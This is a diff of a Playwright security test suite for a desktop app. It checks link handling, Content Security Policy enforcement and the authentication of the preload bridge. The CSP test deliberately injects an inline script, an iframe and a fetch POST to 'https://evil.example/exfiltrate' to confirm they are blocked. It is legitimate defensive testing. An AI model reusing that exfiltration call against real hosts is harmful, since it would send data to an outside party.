@@ -1,11 +1,12 @@
 import { expect, test } from '../support/fixtures';
+import { mainNav, screenshot } from '../support/workflow';
 
 test.describe('navigation and content security', () => {
   test('an external link goes to the system browser after the allow-list check and never replaces the app', async ({ app }) => {
     const { page, core } = app;
-    await app.open();
+    await app.openAs('dana', ['clinician']);
     const appUrl = page.url();
-    await page.getByRole('button', { name: 'About' }).click();
+    await mainNav(page).getByRole('button', { name: 'About' }).click();
     let popups = 0;
     page.on('popup', () => {
       popups += 1;
@@ -15,7 +16,7 @@ test.describe('navigation and content security', () => {
     expect(page.url()).toBe(appUrl);
     expect(popups).toBe(0);
     await expect(page.getByRole('heading', { name: 'About Stepwise' })).toBeVisible();
-    await page.screenshot({ path: 'test-results/screens/04-about.png' });
+    await screenshot(page, '14-about');
   });
 
   test('a link outside the allow-list is refused by the main-process check', async ({ app }) => {
@@ -30,9 +31,12 @@ test.describe('navigation and content security', () => {
   test('the production CSP blocks inline script and remote content', async ({ app }) => {
     const { page } = app;
     await app.open();
-    const outcome = await page.evaluate(async () => {
-      const violations: string[] = [];
-      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
+    await expect(page.getByRole('heading', { name: 'Welcome to Stepwise' })).toBeVisible();
+    type Probe = Window & { __violations?: string[]; __inlineRan?: boolean };
+    const fetchFailed = await page.evaluate(async () => {
+      const probe = window as Probe;
+      probe.__violations = [];
+      document.addEventListener('securitypolicyviolation', (event) => probe.__violations?.push(event.effectiveDirective));
       const script = document.createElement('script');
       script.textContent = 'window.__inlineRan = true';
       document.body.append(script);
@@ -42,28 +46,25 @@ test.describe('navigation and content security', () => {
       const frame = document.createElement('iframe');
       frame.src = 'https://evil.example/';
       document.body.append(frame);
-      let fetchFailed = false;
       try {
         await fetch('https://evil.example/exfiltrate', { method: 'POST', body: 'x' });
+        return false;
       } catch {
-        fetchFailed = true;
+        return true;
       }
-      await new Promise((resolve) => setTimeout(resolve, 300));
-      return {
-        inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true,
-        fetchFailed,
-        violations,
-      };
     });
-    expect(outcome.inlineRan).toBe(false);
-    expect(outcome.fetchFailed).toBe(true);
-    expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-elem', 'img-src', 'frame-src', 'connect-src']));
+    expect(fetchFailed).toBe(true);
+    // Violation reports arrive asynchronously; wait for all four rather than for a fixed time.
+    await expect
+      .poll(() => page.evaluate(() => (window as Probe).__violations))
+      .toEqual(expect.arrayContaining(['script-src-elem', 'img-src', 'frame-src', 'connect-src']));
+    expect(await page.evaluate(() => (window as Probe).__inlineRan === true)).toBe(false);
     expect(app.blockedRequests).toEqual([]);
   });
 
   test('the bridge exposes exactly one function and rejects unknown channels and bad payloads', async ({ app }) => {
     const { page, core } = app;
-    await app.open();
+    await app.openAs('dana', ['clinician']);
     const shape = await page.evaluate(() => ({
       keys: Object.keys(window.stepwise ?? {}),
       hasRequire: typeof (window as unknown as { require?: unknown }).require,
@@ -73,7 +74,28 @@ test.describe('navigation and content security', () => {
     const unknown = await page.evaluate(() => window.stepwise?.invoke('cases.dropAll', {}));
     expect(unknown).toMatchObject({ ok: false, error: { code: 'unknown_channel' } });
     const invalid = await page.evaluate(() => window.stepwise?.invoke('cases.create', { mrn: '', fullName: 3 }));
-    expect(invalid).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
+    expect(invalid).toMatchObject({
+      ok: false,
+      error: { code: 'invalid_input', fields: expect.arrayContaining([expect.objectContaining({ path: 'mrn' })]) },
+    });
+    const extraKey = await page.evaluate(() =>
+      window.stepwise?.invoke('cases.create', { mrn: 'A-1', fullName: 'Jane Doe', dateOfBirth: '1980-01-01', level: 'inpatient' }),
+    );
+    expect(extraKey).toMatchObject({ ok: false, error: { code: 'invalid_input' } });
+    expect(core.database.sqlite.prepare('SELECT count(*) FROM cases').pluck().get()).toBe(0);
+  });
+
+  test('signed out, the bridge refuses every channel but the public ones before reading the payload', async ({ app }) => {
+    const { page, core } = app;
+    await core.addUser('dana', ['clinician']);
+    await app.open();
+    await expect(page.getByRole('heading', { name: 'Sign in', level: 1 })).toBeVisible();
+    const refused = await page.evaluate(() =>
+      window.stepwise?.invoke('cases.create', { mrn: 'A-1', fullName: 'Jane Doe', dateOfBirth: '1980-01-01' }),
+    );
+    expect(refused).toMatchObject({ ok: false, error: { code: 'unauthenticated' } });
+    const status = await page.evaluate(() => window.stepwise?.invoke('auth.status', {}));
+    expect(status).toEqual({ ok: true, value: { setupRequired: false, user: null } });
     expect(core.database.sqlite.prepare('SELECT count(*) FROM cases').pluck().get()).toBe(0);
   });
 });
